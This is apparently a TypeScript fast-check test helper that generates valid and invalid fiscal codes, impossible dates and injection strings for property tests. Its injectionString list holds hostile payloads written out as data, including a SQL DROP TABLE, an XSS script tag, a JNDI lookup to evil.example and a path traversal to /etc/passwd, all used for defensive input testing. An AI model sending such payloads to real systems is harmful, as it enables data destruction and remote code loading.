// fast-check generators shared by the property suites: valid and invalid fiscal codes, impossible
// dates, injection strings. NUM_RUNS is per property; PACHAIN_PROPERTY_RUNS raises it for a long run.
import fc from "fast-check";
import { daysInMonth } from "../../src/domain/dates.ts";
import { isValidFiscalCode, makeFiscalCode } from "../../src/domain/fiscal-code.ts";

export const NUM_RUNS = Number(process.env.PACHAIN_PROPERTY_RUNS ?? 100);

const letters3 = fc.stringMatching(/^[A-Z]{3}$/);

/** A valid fiscal code, in upper or lower case, possibly padded with spaces (the parser trims). */
export function arbitraryFiscalCode(): fc.Arbitrary<string> {
  return fc
    .record({
      surname3: letters3,
      name3: letters3,
      birthDate: fc.date({ min: new Date("1920-01-01T00:00:00Z"), max: new Date("2010-12-31T00:00:00Z"), noInvalidDate: true })
        .map((d) => d.toISOString().slice(0, 10)),
      female: fc.boolean(),
      placeCode: fc.stringMatching(/^[A-Z]\d{3}$/),
    })
    .map(makeFiscalCode);
}

/** Strings that are not valid fiscal codes: a wrong check character, a wrong length, other characters, other types. */
export function invalidFiscalCode(): fc.Arbitrary<unknown> {
  return fc.oneof(
    arbitraryFiscalCode().chain((code) =>
      fc.constantFrom(..."ABCDEFGHIJKLMNOPQRSTUVWXYZ".split("").filter((c) => c !== code[15])).map((c) => code.slice(0, 15) + c),
    ),
    arbitraryFiscalCode().map((code) => code.slice(0, 15)),
    arbitraryFiscalCode().map((code) => `${code}X`),
    fc.string({ maxLength: 40 }).filter((s) => !isValidFiscalCode(s)),
    injectionString(),
    fc.oneof(fc.integer(), fc.constant(null), fc.boolean(), fc.array(fc.string(), { maxLength: 2 })),
  );
}

/** YYYYMMDD numbers that are no calendar day: month 0 or 13+, day 0 or past the month's end, 29 February of common years, out of range. */
export function impossibleDate(): fc.Arbitrary<number> {
  const year = fc.integer({ min: 1900, max: 2199 });
  return fc.oneof(
    fc.tuple(year, fc.oneof(fc.constant(0), fc.integer({ min: 13, max: 99 })), fc.integer({ min: 1, max: 28 })).map(([y, m, d]) => y * 10000 + m * 100 + d),
    fc.tuple(year, fc.integer({ min: 1, max: 12 })).chain(([y, m]) =>
      fc.oneof(fc.constant(0), fc.integer({ min: daysInMonth(y, m) + 1, max: 99 })).map((d) => y * 10000 + m * 100 + d),
    ),
    year.filter((y) => daysInMonth(y, 2) === 28).map((y) => y * 10000 + 229),
    fc.integer({ min: 0, max: 18991231 }), // before 1900 (0 included)
  );
}

/** SQL, HTML, template, path, log and null-byte injection attempts, alone or inside other text. */
export function injectionString(): fc.Arbitrary<string> {
  const payloads = [
    "'; DROP TABLE outbox; --",
    "\" OR 1=1 --",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "../../../../etc/passwd",
    "\u0000",
    "\r\n{\"level\":60,\"msg\":\"forged log line\"}",
    "__proto__",
    "%s%s%s%n",
  ];
  return fc.oneof(
    fc.constantFrom(...payloads),
    fc.tuple(fc.string({ maxLength: 8 }), fc.constantFrom(...payloads), fc.string({ maxLength: 8 })).map(([a, p, b]) => a + p + b),
  );
}
